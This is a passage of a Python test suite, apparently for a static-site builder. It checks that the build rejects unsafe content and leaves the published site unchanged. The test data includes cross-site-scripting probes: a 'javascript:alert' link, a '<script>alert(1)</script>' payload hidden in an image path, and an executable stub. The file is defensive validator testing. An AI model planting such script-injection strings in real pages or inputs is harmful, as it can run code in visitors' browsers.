        ({"docs/method.md": "# How\n\n[x](javascript:alert)\n"}, "[unsafe-address]"),
        ({"docs/a.js": "alert(1)"}, "site/a.js:1:1: error: is code that stands neither"),
        ({"docs/a.exe": "MZ"}, "[unknown-file]"),
        ({"docs/assets/img/a.png": "<script>alert(1)</script>"}, "[wrong-content]"),
    ],
)
def test_what_is_refused_is_not_published(
    small: Path, changed: Mapping[str, str], line: str
) -> None:
    before = contents(small / "site")
    write_files(small, changed)

    result = briefing("build", "--root", small)

    assert result.exit_code == 1
    assert line in result.stdout
    assert "Traceback" not in result.output
    assert contents(small / "site") == before


def test_an_address_that_cannot_be_parsed_stops_nobody(tmp_path: Path) -> None:
    write_files(tmp_path, {"index.html": page('<a href="https://[">x</a>')})

    assert {one.code for one in verify(tmp_path)} <= {"dead-link"}


def test_void_elements_and_their_list_agree() -> None:
    assert {name for name in VOID if name not in allowed.HTML} == {"area", "source", "track"}
